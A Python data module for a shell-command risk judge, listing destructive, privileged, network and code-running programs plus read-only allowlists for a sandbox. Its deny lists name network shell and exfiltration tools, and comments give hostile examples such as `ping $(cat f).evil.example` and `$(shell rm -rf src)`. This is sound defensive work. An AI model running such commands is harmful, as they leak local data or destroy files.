"""The command rules as data: what is recognised as read-only, and what is dangerous.

The judge (command_risk.py) fails closed: a simple command is LOW only when its program
is in `READ_ONLY` and every option and operand passed that entry's checks; everything else is
at least MEDIUM, and the tables below say what is HIGH. Long options are matched by unique
prefix too (`--del` is rsync's --delete-during, `--outp` is git's --output), because GNU
getopt and git accept abbreviations (command_risk.py reads the words; this module is data only).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal

from .shell import SHELLS

@dataclass(frozen=True)
class CommandPattern:
    """Which simple commands a rule matches: program, optional subcommand, optional flags.

    With no `flags` and no `short`, the program (and subcommand) alone match. Otherwise an
    argument must be one of `flags` (long ones also as `flag=...` or an abbreviation), or a
    short-option cluster containing one of the letters in `short`. `unless` flags exempt the
    command (dry runs); so does a first argument in `unless_first` (`kill -l`, `crontab -l`).
    command_risk.pattern_matches reads a command against one.
    """

    programs: frozenset[str]
    subcommands: frozenset[str] = frozenset()
    flags: frozenset[str] = frozenset()
    short: str = ""
    unless: frozenset[str] = frozenset()
    unless_first: frozenset[str] = frozenset()


def _p(*programs: str, sub: tuple[str, ...] = (), flags: tuple[str, ...] = (), short: str = "",
       unless: tuple[str, ...] = (), unless_first: tuple[str, ...] = ()) -> CommandPattern:
    return CommandPattern(frozenset(programs), frozenset(sub), frozenset(flags), short, frozenset(unless),
                          frozenset(unless_first))


# (rule id, pattern): checked against every simple command found in a command line.
COMMAND_RULES: tuple[tuple[str, CommandPattern], ...] = (
    ("shell.delete", _p("rm", "rmdir", "unlink", "shred", "srm", "wipe", "trash", "trash-put", "gio")),
    ("shell.disk", _p("dd", "mkfs", "mkfs.ext4", "mkfs.ext3", "mkfs.xfs", "mkfs.vfat", "mkfs.btrfs",
                      "fdisk", "sfdisk", "parted", "wipefs", "mkswap", "losetup", "blkdiscard", "mount", "umount")),
    ("shell.truncate", _p("truncate", "fallocate")),
    ("shell.in_place_edit", _p("gawk", "awk", flags=("--include",), short="i")),
    ("shell.in_place_edit", _p("yq", flags=("--inplace",), short="i")),
    ("shell.recursive_permissions", _p("chmod", "chown", "chgrp", "chattr", "setfacl", flags=("--recursive",),
                                       short="R")),
    ("shell.git_discard", _p("git", sub=("reset",), flags=("--hard", "--merge", "--keep"))),
    ("shell.git_discard", _p("git", sub=("clean",), unless=("-n", "--dry-run"))),
    ("shell.git_discard", _p("git", sub=("checkout",), flags=("--", ".", "-f", "--force", "--ours", "--theirs",
                                                              "-B"))),
    ("shell.git_discard", _p("git", sub=("switch",), flags=("--discard-changes", "--force", "-f", "-C"))),
    ("shell.git_discard", _p("git", sub=("restore", "rm"))),
    ("shell.git_discard", _p("git", sub=("stash",), flags=("drop", "clear"))),
    ("shell.git_discard", _p("git", sub=("branch",), flags=("-D", "--delete", "--force", "-f"), short="DfMC")),
    ("shell.git_discard", _p("git", sub=("tag",), flags=("--delete",), short="d")),
    ("shell.git_discard", _p("git", sub=("reflog",), flags=("expire", "delete"))),
    ("shell.git_discard", _p("git", sub=("gc",), flags=("--prune", "--aggressive"))),
    ("shell.git_discard", _p("git", sub=("filter-branch", "filter-repo", "update-ref", "prune", "replace",
                                         "worktree"), flags=("-d", "--delete", "remove", "prune", "--force", "-f"))),
    ("shell.git_discard", _p("git", sub=("filter-branch", "filter-repo", "prune"))),
    ("shell.git_force_push", _p("git", sub=("push",), flags=("--force", "--force-with-lease", "--force-if-includes",
                                                              "--mirror", "--delete", "--prune"), short="fd")),
    ("shell.find_delete", _p("find", flags=("-delete",))),
    ("shell.sync_delete", _p("rsync", flags=("--delete", "--delete-after", "--delete-before", "--delete-during",
                                             "--delete-delay", "--delete-excluded", "--delete-missing-args",
                                             "--remove-source-files"))),
    ("shell.kill", _p("kill", "pkill", "killall", "xkill", "skill", "reboot", "shutdown", "halt", "poweroff", "init",
                      "telinit", unless_first=("-l", "-L", "--list", "--table"))),
    ("shell.kill", _p("systemctl", sub=("stop", "kill", "disable", "mask", "reboot", "poweroff", "halt", "isolate"))),
    ("shell.privilege", _p("sudo", "su", "doas", "pkexec", "run0", "runuser", "chroot", "nsenter", "unshare",
                           "setpriv", "capsh")),
    ("shell.code_config", _p("git", sub=("hook",))),
    ("shell.code_config", _p("crontab", unless_first=("-l",))),
    ("shell.code_config", _p("at", "batch", "atq", "systemd-run", "launchctl", "alias", "direnv", "chsh",
                             "update-alternatives", "complete")),
    ("shell.code_config", _p("systemctl", sub=("enable", "link", "edit", "set-environment", "import-environment",
                                               "daemon-reload"))),
    ("shell.code_config", _p("npm", "pnpm", "yarn", "pip", "pip3", sub=("config",), flags=("set", "edit"))),
    ("shell.fed_interpreter", _p("source", ".", sub=("/dev/stdin", "/proc/self/fd/0", "/dev/fd/0", "-"))),
    ("shell.inline_code", _p("trap")),
    # make's --eval/-E is a makefile given inline: `$(shell rm -rf src)` runs.
    ("shell.inline_code", _p("make", "gmake", flags=("--eval",), short="E")),
    # Perl's rename runs its first operand as Perl code (util-linux rename is judged the same).
    ("shell.inline_code", _p("rename", "prename", "perl-rename", "file-rename")),
    # bash's `hash -p PATH NAME`: NAME now runs PATH (`hash -p /bin/rm ls; ls -r src` deletes).
    ("shell.code_config", _p("hash", short="p")),
)

# Programs that act outside the sandbox through a socket or service: the process they talk to runs
# what it is asked, unconfined (a tmux window, a systemd unit, a container, a desktop action).
OUTSIDE_CONTROLLERS = frozenset({
    "tmux", "screen", "byobu", "zellij", "abduco", "dtach", "kitten", "wezterm", "systemctl", "loginctl", "busctl",
    "dbus-send", "dbus-monitor", "gdbus", "qdbus", "gsettings", "dconf", "notify-send", "xdotool", "ydotool",
    "wtype", "xdg-open", "open", "gio", "xclip", "xsel", "wl-copy", "wl-paste", "swaymsg", "i3-msg", "hyprctl",
    "ssh-add", "ssh-agent", "gpg-connect-agent", "gpg-agent", "socat", "docker", "docker-compose", "podman",
    "podman-compose", "nerdctl", "kubectl", "k3s", "ctr", "crictl", "buildah", "lxc", "incus", "virsh", "vagrant",
    "helm", "minikube", "machinectl", "at", "batch", "atq", "atrm", "emacsclient", "code", "code-insiders", "cursor",
    "flatpak-spawn", "host-spawn", "distrobox-host-exec", "toolbox", "distrobox",
    # Database clients: the server they reach (by a socket, with the network off too) runs what they send.
    "psql", "mysql", "mariadb", "redis-cli", "mongo", "mongosh", "sqlcmd", "clickhouse-client", "cqlsh",
    "nmcli", "timedatectl", "hostnamectl", "localectl", "resolvectl", "udisksctl", "bluetoothctl", "pactl",
    "playerctl", "flatpak", "snap", "pkcon",
})
# Options that make a network client use a Unix socket by path (docker's, an agent's).
UNIX_SOCKET_OPTIONS = {"nc": ("-U",), "ncat": ("-U", "--unixsock"), "netcat": ("-U",), "curl": ("--unix-socket",
                       "--abstract-unix-socket"), "ssh": ("-S",), "http": ("--unix-socket",)}
PS_VALUE_OPTIONS = frozenset({"-o", "-O", "-p", "-q", "-t", "-u", "-U", "-g", "-G", "-C", "-s", "-k", "--sort",
                              "--format", "--pid", "--ppid", "--user", "--group", "--cols", "--columns", "--rows"})
# /proc files that show another process's environment, memory or open files.
PROC_SECRETS = re.compile(r"^/proc/(?!self/|thread-self/)[^/]+/(?:task/[^/]+/)?(?:environ|mem|fd|fdinfo|cwd|root|"
                          r"map_files)(?:/|$)|^/proc/?$|^/proc/(?!self$|thread-self$)[^/]*[0-9*?\[$][^/]*/?$")
# Options that make a reader follow symlinks while it walks a tree (a link may lead outside).
FOLLOWS_SYMLINKS = {"grep": ("-R", "--dereference-recursive"), "egrep": ("-R",), "fgrep": ("-R",),
                    "rg": ("-L", "--follow"), "ag": ("-f", "--follow"), "find": ("-L", "-follow"),
                    "ls": ("-L", "--dereference"), "du": ("-L", "--dereference"), "tree": ("-l",),
                    "file": ("-L", "--dereference")}

# Tools whose own language can run a shell command or write files: sqlite3's .shell/.system/.load/
# .output, VACUUM INTO and ATTACH; dc's `!`; m4's syscmd. Fed from their input they run what it holds.
ESCAPING_TOOLS: dict[str, re.Pattern[str]] = {
    "sqlite3": re.compile(r"(?i)(^|[\s;])\.(shell|system|load|output|once|save|backup|excel|import|open|cd|log)\b"
                          r"|\bload_extension\b|\bvacuum\s+into\b|\battach\b|\bwritefile\s*\(|\bedit\s*\("),
    "dc": re.compile(r"!"),
    "m4": re.compile(r"\b(e?syscmd|include|sinclude|maketemp|mkstemp)\b"),
}
# Interpreters, and the options that hand them code on the command line.
INLINE_CODE_OPTIONS: dict[str, tuple[str, ...]] = {
    "python": ("-c",), "pypy": ("-c",), "perl": ("-e", "-E"), "ruby": ("-e",), "node": ("-e", "-p", "--eval",
    "--print"), "nodejs": ("-e", "-p", "--eval", "--print"), "deno": ("eval",), "bun": ("-e", "--eval", "eval"),
    "php": ("-r", "-R", "-B", "-E"), "lua": ("-e",), "luajit": ("-e",), "Rscript": ("-e",), "R": ("-e",),
    "osascript": ("-e",), "julia": ("-e", "--eval", "-E", "--print"), "tclsh": (), "pwsh": ("-c", "-Command"),
    "powershell": ("-c", "-Command"), "jshell": (), "groovy": ("-e",), "scala": ("-e",), "ed": (),
    "guile": ("-c",), "racket": ("-e", "--eval"), "sbcl": ("--eval",), "clisp": ("-x",), "ghci": ("-e",),
    "ghc": ("-e",), "ocaml": (), "swipl": ("-g", "-t"), "erl": ("-eval",), "elixir": ("-e", "--eval"),
    "iex": ("-e",), "qjs": ("-e", "--eval"), "tsx": ("-e", "--eval", "-p", "--print"),
    "ts-node": ("-e", "--eval", "-p", "--print"), "pry": ("-e",), "raku": ("-e",), "perl6": ("-e",),
    "gjs": ("-c", "--command"), "janet": ("-e",), "fennel": ("-e", "--eval"), "hy": ("-c",), "bb": ("-e", "--eval"),
    "clojure": ("-e", "--eval"), "wish": (), "expect": ("-c",), "kotlin": ("-e",), "gst": (), "scheme": ("--eval",),
}
# (vim, ex, emacs and gdb read options anywhere on the line, after the file too: code_in_options.py.)
# The options above take their code as the next word (or attached), and these take some other value.
INTERPRETER_VALUE_OPTIONS: dict[str, frozenset[str]] = {
    "python": frozenset({"-W", "-X", "-Q", "--check-hash-based-pycs"}),
    "perl": frozenset({"-I", "-M", "-m", "-x", "-C", "-d"}),
    "ruby": frozenset({"-I", "-r", "-C", "-E", "-F", "-K"}),
    "node": frozenset({"-r", "--require", "--import", "--loader", "--input-type", "--conditions", "-C"}),
}
INTERPRETERS = SHELLS | frozenset(INLINE_CODE_OPTIONS) | {"source", ".", "awk", "gawk", "mawk", "nawk", "irb",
                                                          "ipython", "php-cgi"}
# Files a shell or interpreter reads its code from that are really its standard input.
STDIN_FILES = frozenset({"-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"})
DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "httpie", "lynx", "links"})
# Network clients: fed from a pipe or a file, or given a file to upload, they send local data away.
NETWORK_CLIENTS = DOWNLOADERS | {"nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "ftp", "rsync",
                                 "openssl", "sendmail", "mail", "mutt"}
# Programs that look names up or reach a host: a name built at run time (`ping $(cat f).evil.example`)
# carries local data out in the lookup itself.
ADDRESS_CLIENTS = frozenset({"ping", "ping6", "dig", "host", "nslookup", "drill", "getent", "traceroute", "tracepath",
                             "whois", "mtr", "arping", "nmap"})
# Commands that publish or upload what is in the workspace: program -> {subcommand: the next words
# that publish (empty: any)}; "" as the subcommand means the program itself.
PUBLISHERS: dict[str, dict[str, frozenset[str]]] = {
    "hg": {"push": frozenset()}, "svn": {"commit": frozenset(), "import": frozenset()},
    **{name: {"publish": frozenset()} for name in ("npm", "pnpm", "yarn", "cargo", "poetry", "uv", "hatch", "flit")},
    "twine": {"upload": frozenset()}, "gem": {"push": frozenset()},
    "gh": {"gist": frozenset({"create", "edit"}), "release": frozenset({"create", "upload"}),
           "repo": frozenset({"create"})},
    "glab": {"snippet": frozenset({"create"})}, "aws": {"s3": frozenset({"cp", "sync", "mv"})},
    "gsutil": {"cp": frozenset(), "rsync": frozenset()}, "gcloud": {"storage": frozenset({"cp", "rsync"})},
    "rclone": {sub: frozenset() for sub in ("copy", "sync", "move", "copyto", "moveto", "rcat")},
    "s3cmd": {"put": frozenset(), "sync": frozenset()}, "croc": {"send": frozenset()},
    "wormhole": {"send": frozenset()}, "pastebinit": {"": frozenset()}, "ffsend": {"upload": frozenset()},
}
UPLOAD_OPTIONS = ("--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "--json", "--form",
                  "--form-string", "--upload-file", "--post-file", "--body-file", "--body-data", "-d", "-F", "-T")
MOVERS = frozenset({"mv", "cp", "install", "ln", "rsync"})
# Targets a redirection may write without touching a file.
HARMLESS_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "-"})
# A file that is an open descriptor of the process: what is read from it is what a redirection put there.
DESCRIPTOR_FILE = re.compile(r"/dev/fd/\d+|/proc/(?:self|thread-self|\d+)/fd/\d+|/dev/std(?:in|out|err)")
# An open descriptor, and nothing beyond it: /dev/fd is /proc/self/fd, so /dev/fd/../cwd/.. is outside.
OPEN_DESCRIPTOR = re.compile(r"/dev/fd/\d+")
# Where the installed programs are: a program named by a path elsewhere runs that file.
SYSTEM_BIN_DIRS = ("/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/", "/usr/sbin/")
PRIVILEGED_WRAPPERS = frozenset({"sudo", "doas", "su", "pkexec", "run0", "runuser"})
# Programs that change the files they name (after the first `skip` operands: chmod MODE FILE...).
MODIFIES_OPERANDS: dict[str, int] = {"touch": 0, "mkdir": 0, "chmod": 1, "chown": 1, "chgrp": 1, "chattr": 1,
                                     "setfacl": 1, "mkfifo": 0, "mknod": 0, "gzip": 0, "gunzip": 0, "bzip2": 0,
                                     "xz": 0, "zstd": 0, "unxz": 0, "split": 1, "patch": 0, "dos2unix": 0,
                                     "unix2dos": 0}
# Options whose value is a file the program writes (the rest of its operands it only reads).
OUTPUT_OPTIONS: dict[str, tuple[str, ...]] = {
    "sort": ("-o", "--output"), "shuf": ("-o", "--output"), "tree": ("-o",), "curl": ("-o", "--output", "-D",
    "--dump-header", "-c", "--cookie-jar", "--trace", "--trace-ascii", "--stderr", "--etag-save", "--libcurl"),
    "wget": ("-O", "--output-document", "-o", "--output-file", "-a", "--append-output"),
    "patch": ("-o", "--output"), "time": ("-o", "--output"), "strace": ("-o",), "ltrace": ("-o",),
    "find": ("-fprint", "-fprint0", "-fprintf", "-fls"), "base64": ("-o", "--output"),
    # Converters (unpacking.py judges the archive and patch tools).
    "openssl": ("-out", "-keyout", "-writerand", "-sess_out", "-msgfile", "-keylogfile"),
    "iconv": ("-o", "--output"), "pandoc": ("-o", "--output"), "xsltproc": ("-o", "--output"),
    "xmllint": ("--output",), "dot": ("-o",), "rsvg-convert": ("-o", "--output"), "zstd": ("-o",),
    "brotli": ("-o", "--output"), "msgfmt": ("-o", "--output-file"), "cwebp": ("-o",), "exiftool": ("-o",),
}
# Programs whose operands after the first (uniq IN OUT, xxd IN OUT) are an output file.
SECOND_OPERAND_OUTPUT = frozenset({"uniq", "xxd"})
# Options that make an otherwise read-only program run another program, with their program.
RUNS_PROGRAM_OPTIONS: dict[str, tuple[str, ...]] = {
    "rg": ("--pre", "--pre-glob", "--hostname-bin"), "ag": ("--pager",), "sort": ("--compress-program",),
    "tar": ("--to-command", "--use-compress-program", "-I", "--checkpoint-action", "--info-script",
            "--new-volume-script", "-F", "--rsh-command", "--rmt-command"),
    "git": ("--upload-pack", "--receive-pack", "--exec"), "man": ("-P", "--pager", "-H", "--html"),
    "rsync": ("-e", "--rsh", "--rsync-path"), "zip": ("-TT", "--unzip-command"), "scp": ("-S",),
    "make": ("SHELL=",),
}
Operands = Literal["paths", "text", "none"]


@dataclass(frozen=True)
class ReadOnly:
    """A program recognised as read-only. `options`: None means every option of this program
    only reads (it has none that write a file or run another program: checked against its
    manual); otherwise the options allowed (long ones exactly, short ones as letters).
    `operands`: "paths" (checked against the workspace), "text" (not paths), "none" (any
    operand makes it not read-only: `hostname NAME` sets the name). `deny`: options that make
    it not read-only (long ones also abbreviated). `max_operands`: more is an output file."""

    options: frozenset[str] | None = None
    operands: Operands = "paths"
    deny: tuple[str, ...] = ()
    value_options: frozenset[str] = frozenset()
    max_operands: int | None = None


def _ro(options: str | None = None, operands: Operands = "paths", deny: tuple[str, ...] = (),
        values: str = "", max_operands: int | None = None) -> ReadOnly:
    return ReadOnly(frozenset(options.split()) if options is not None else None, operands, deny,
                    frozenset(values.split()), max_operands)


_ANY = _ro()
_TEXT = _ro(operands="text")
_INFO = _ro(operands="none")
READ_ONLY: dict[str, ReadOnly] = {
    **{name: _ANY for name in (
        "ls", "dir", "vdir", "cat", "tac", "nl", "head", "tail", "wc", "grep", "egrep", "fgrep", "zgrep", "stat",
        "du", "df", "diff", "cmp", "comm", "cut", "column", "fold", "rev", "paste", "join", "fmt", "expand",
        "unexpand", "pr", "od", "hexdump", "strings", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum",
        "sha512sum", "b2sum", "cksum", "sum", "shasum", "realpath", "readlink", "jq", "file", "lsattr", "getfacl",
        "namei", "zcat", "bzcat", "xzcat", "zstdcat", "lz4cat", "base32", "base64", "diff3", "wdiff",
        "colordiff", "numfmt", "tsort")},
    **{name: _TEXT for name in (
        "echo", "printf", "true", "false", ":", "test", "[", "[[", "]]", "basename", "dirname", "which", "type",
        "whereis", "seq", "expr", "sleep", "wait", "yes", "factor", "tr", "command", "hash", "exit", "return",
        "shift", "read", "let", "getconf", "printenv", "ps")},
    **{name: _INFO for name in (
        "pwd", "whoami", "id", "groups", "uname", "nproc", "free", "uptime", "locale", "env", "tty",
        "arch", "lsb_release", "users", "who", "w", "lscpu", "lsblk", "lsmem", "last")},
    "file": _ro(deny=("-C", "--compile")),
    "tree": _ro(deny=("-o", "-R")),  # -R with -H writes 00Tree.html into every directory
    "rg": _ro(deny=("--pre", "--pre-glob", "--hostname-bin")),
    "ag": _ro(deny=("--pager",)),
    "sort": _ro(deny=("--output", "-o", "--compress-program", "--temporary-directory", "-T")),
    # IN and OUT: a second operand is the file they write (an option's value is not one: `uniq -w 3 f`).
    "uniq": _ro(max_operands=1, values="-f -s -w --skip-fields --skip-chars --check-chars"),
    "xxd": _ro(deny=("-r", "--revert"), max_operands=1,
               values="-l -s -c -g -o -n -len -seek -cols -groupsize -offset -name -octets"),
    "less": _ro(deny=("+",)),
    "more": _ro(deny=("+",)),
    "hostname": _ro("-f -s -i -I -d -A --fqdn --short --ip-address --all-ip-addresses --domain", operands="none"),
    "date": _ro("-u -R -I -d --date --utc --iso-8601 --rfc-3339 --rfc-email -r --reference +", operands="text",
                values="-d --date -r --reference"),
    "crontab": _ro("-l", operands="none"),
    "kill": _ro("-l -L --list --table", operands="text"),
    "set": _ro("-e -u -x -o -v -f -n +e +u +x +o +v -eu -ex -eux -euo", operands="text"),
}
# git: subcommands that only read, and for each one the options that make it write or run code.
GIT_READ_ONLY: dict[str, tuple[str, ...]] = {
    **{sub: ("--output", "--ext-diff") for sub in (
        "status", "diff", "log", "show", "whatchanged", "shortlog", "diff-tree", "diff-files", "diff-index",
        "range-diff")},
    **{sub: () for sub in (
        "blame", "annotate", "ls-files", "ls-tree", "rev-parse", "rev-list", "describe", "show-ref", "show-branch",
        "name-rev", "merge-base", "count-objects", "for-each-ref", "check-ignore", "check-attr", "version", "var",
        "cherry", "verify-commit", "verify-tag")},
    "grep": ("--open-files-in-pager", "-O", "--ext-grep"),
    "cat-file": ("--textconv", "--filters"),
}
# Subcommands read-only only in their listing forms: the first argument (if any) must be one of these
# and there may be no other positional argument.
GIT_LISTING: dict[str, frozenset[str]] = {
    "branch": frozenset({"-a", "--all", "-r", "--remotes", "-v", "-vv", "--verbose", "--list", "-l",
                         "--show-current", "--merged", "--no-merged", "--contains", "--no-contains", "--points-at",
                         "--sort", "--format", "--color", "--no-color", "--column", "--no-column", "-i",
                         "--ignore-case", "--omit-empty"}),
    "tag": frozenset({"-l", "--list", "-n", "--contains", "--no-contains", "--merged", "--no-merged",
                      "--points-at", "--sort", "--format", "--column", "--no-column", "-i", "--ignore-case"}),
    "stash": frozenset({"list", "show"}),
    "reflog": frozenset({"show"}),
    "remote": frozenset({"-v", "--verbose", "get-url"}),
    "config": frozenset({"--list", "-l", "--get", "--get-all", "--get-regexp", "--get-urlmatch", "--get-color",
                         "--get-colorbool", "--show-origin", "--show-scope", "--name-only", "--null", "-z", "--local",
                         "--global", "--system", "--worktree", "--type", "--bool", "--int", "--bool-or-int", "--path",
                         "--expiry-date", "--default", "--includes", "--no-includes", "--file", "-f", "--blob",
                         "--fixed-value", "--all", "--regexp", "--value", "--url", "get", "list"}),
    "worktree": frozenset({"list"}),
    "notes": frozenset({"list", "show"}),
    "submodule": frozenset({"status", "summary"}),
}
# git's own options that are harmless; -c, --config-env and --exec-path=DIR are code configuration.
GIT_SAFE_GLOBALS = frozenset({"--no-pager", "-P", "-p", "--paginate", "--no-replace-objects", "--literal-pathspecs",
                              "--glob-pathspecs", "--noglob-pathspecs", "--icase-pathspecs", "--no-optional-locks",
                              "--bare", "--version", "--help", "-h", "--html-path", "--man-path", "--info-path",
                              "--exec-path", "--no-advice", "--no-lazy-fetch"})
GIT_CODE_GLOBALS = ("-c", "--config-env", "--exec-path=")
GIT_PATH_GLOBALS = ("-C", "--git-dir", "--work-tree", "--namespace")
# git subcommands whose options run a program or command line given to them, or install code that
# runs later (hooks from a template, configuration of a new clone). Short ones count attached and in
# clusters (`-x'cmd'`, `-ux`), long ones by any prefix git would take (`--upl=cmd`).
GIT_RUNS_PROGRAM: dict[str, tuple[str, ...]] = {
    "submodule": ("foreach",), "rebase": ("-x", "--exec"), "bisect": ("run",), "difftool": ("-x", "--extcmd"),
    "filter-branch": ("--tree-filter", "--index-filter", "--msg-filter", "--env-filter", "--commit-filter",
                      "--parent-filter", "--tag-name-filter"),
    "clone": ("-u", "--upload-pack", "--template", "-c", "--config"), "fetch": ("--upload-pack",),
    "pull": ("--upload-pack",), "ls-remote": ("-u", "--upload-pack"), "push": ("--receive-pack", "--exec"),
    "archive": ("--exec",), "init": ("--template",), "remote": ("--upload-pack",),
    "send-email": ("--sendmail-cmd", "--smtp-server", "--to-cmd", "--cc-cmd", "--header-cmd"),
    "instaweb": ("--httpd", "--browser", "-d", "-b"), "mergetool": ("-t", "--tool"),
}
GIT_MIN_PREFIX = 3  # "--" and one letter: git takes any unambiguous prefix of a long option
# Transports that run a command given in the URL (ext::sh -c ...).
GIT_COMMAND_URLS = ("ext::",)

# find: the expressions that only test or print.
FIND_READ_ONLY = frozenset({
    "-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex", "-regextype", "-type",
    "-xtype", "-size", "-empty", "-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-used", "-user",
    "-group", "-uid", "-gid", "-nouser", "-nogroup", "-perm", "-links", "-inum", "-samefile", "-maxdepth",
    "-mindepth", "-depth", "-d", "-prune", "-quit", "-print", "-print0", "-printf", "-ls", "-true", "-false", "-not",
    "-a", "-and", "-o", "-or", "-readable", "-writable", "-executable", "-lname", "-ilname", "-fstype", "-xdev",
    "-mount", "-noleaf", "-follow", "-daystart", "-ignore_readdir_race", "-noignore_readdir_race", "-L", "-P", "-H",
    "-O0", "-O1", "-O2", "-O3", "-warn", "-nowarn", "(", ")", "!", ",", "-newer", "-anewer", "-cnewer",
    "-help", "--help", "-version", "--version", "-context",
    # -exec and friends: find itself only reads; the command it runs is judged on its own.
    "-exec", "-execdir", "-ok", "-okdir",
})
FIND_VALUE_PREDICATES = frozenset({
    "-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex", "-regextype", "-type",
    "-xtype", "-size", "-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-used", "-user", "-group", "-uid",
    "-gid", "-perm", "-links", "-inum", "-samefile", "-maxdepth", "-mindepth", "-printf", "-lname", "-ilname",
    "-fstype", "-newer", "-anewer", "-cnewer", "-context",
})

# sed: options, and the script commands that are safe (e, w, W and the s flags e/w are not).
SED_OPTIONS = frozenset({"-n", "--quiet", "--silent", "-E", "-r", "--regexp-extended", "-s", "--separate", "-z",
                         "--null-data", "-u", "--unbuffered", "--posix", "--debug", "--sandbox", "-l",
                         "--line-length", "-e", "--expression", "--follow-symlinks", "-b", "--binary"})
SED_VALUE_OPTIONS = frozenset({"-e", "--expression", "-l", "--line-length", "-f", "--file"})
SED_SAFE_COMMANDS = frozenset("pPdDnNqQ=lgGhHxbtT:{}#aicyzFrRv")
SED_SAFE_S_FLAGS = frozenset("gpiImM0123456789")

# awk: options that only read, and what in a program makes it run commands or write files.
AWK_PROGRAMS = frozenset({"awk", "gawk", "mawk", "nawk"})
AWK_OPTIONS = frozenset({"-F", "--field-separator", "-v", "--assign", "-b", "--characters-as-bytes", "-c",
                         "--traditional", "-P", "--posix", "-O", "--optimize", "-M", "--bignum", "-n",
                         "--non-decimal-data", "-N", "--use-lc-numeric", "-r", "--re-interval", "-t", "--lint-old",
                         "-S", "--sandbox", "-L", "--lint", "--"})
AWK_VALUE_OPTIONS = frozenset({"-F", "--field-separator", "-v", "--assign"})
AWK_PROGRAM_FILE_OPTIONS = frozenset({"-f", "--file", "-E", "--exec", "-e", "--source"})
AWK_RUNS_CODE = frozenset({"-l", "--load", "-i", "--include"})
AWK_GETLINE_FILE = re.compile(r'\bgetline\b[^;{}\n<]*<\s*("(?:[^"\\]|\\.)*"|[^\s;{})]+)')
AWK_DANGER = re.compile(r"\bsystem\b|(?<!\|)\|(?!\|)|@\w|\bprintf?\b[^;}\n]*>|\bfflush\s*\(\s*\)\s*\|")

# bash evaluates strings as arithmetic or array subscripts in these builtins' operands (and in
# any variable's value used in arithmetic): a quoted `a[$(cmd)]` there runs cmd.
EVALUATING_BUILTINS = frozenset({"printf", "read", "unset", "let", "test", "[", "[[", "declare", "typeset", "local",
                                 "export", "readonly", "mapfile", "readarray", "wait", "shift", "return", "exit"})
QUOTED_SUBSCRIPT_CODE = re.compile(r"\[[^\]]*(?:\$\((?!\.\.\.\))|`)")
ARITHMETIC_TESTS = frozenset({"-eq", "-ne", "-lt", "-le", "-gt", "-ge"})
# Tools that run code from files in the directory they work in (the recipes of a makefile, a
# conftest.py, package.json's scripts, a build script): a file of these names written by the
# same line is code the tool runs. Names are matched as patterns.
_MAKEFILES = ("GNUmakefile", "makefile", "Makefile")
_PYTEST_FILES = ("conftest.py", "test_*.py", "*_test.py", "pytest.ini", "pyproject.toml", "setup.cfg", "tox.ini")
_NODE_FILES = ("package.json", ".npmrc", ".yarnrc", ".yarnrc.yml", "*.js", "*.mjs", "*.cjs", "*.ts")
TOOL_FILES: dict[str, tuple[str, ...]] = {
    "make": _MAKEFILES, "gmake": _MAKEFILES, "pytest": _PYTEST_FILES, "py.test": _PYTEST_FILES,
    **{name: _NODE_FILES for name in ("npm", "pnpm", "yarn", "bun", "npx")},
    "rake": ("Rakefile", "rakefile", "Rakefile.rb", "*.rake"), "bundle": ("Gemfile", "Rakefile"),
    "just": ("justfile", "Justfile", ".justfile"), "task": ("Taskfile.yml", "Taskfile.yaml"),
    "cmake": ("CMakeLists.txt", "*.cmake"), "meson": ("meson.build",), "ninja": ("build.ninja",),
    "gradle": ("build.gradle", "build.gradle.kts", "settings.gradle", "settings.gradle.kts", "gradle.properties"),
    "mvn": ("pom.xml",), "cargo": ("Cargo.toml", "build.rs", "*.rs"), "go": ("*.go", "go.mod"),
    "tox": ("tox.ini", "setup.py", "pyproject.toml"), "nox": ("noxfile.py",), "invoke": ("tasks.py",),
    "inv": ("tasks.py",), "fab": ("fabfile.py",), "pip": ("setup.py", "pyproject.toml", "setup.cfg"),
    "composer": ("composer.json",), "deno": ("deno.json", "deno.jsonc", "*.ts", "*.js"),
}
# `--help`/`--version` that is not only help: these load conftest.py, plugins, or a toolchain file
# (rust-toolchain, .mvn/jvm.config, gradle.properties, .yarnrc.yml's yarnPath) first, so asking runs
# the project's code (`shell.help_runs_code`, MEDIUM).
HELP_LOADS_PROJECT = frozenset({
    "pytest", "py.test", "tox", "flask", "django-admin", "rails", "rake", "cargo", "rustc", "rustdoc", "rustup",
    "gradle", "mvn", "sbt", "yarn", "mocha", "invoke", "inv", "fab", "celery", "pylint", "go", "bazel", "bazelisk",
    "hatch",
})
PROMPT_EXPANSION = re.compile(r"@P\s*\}")
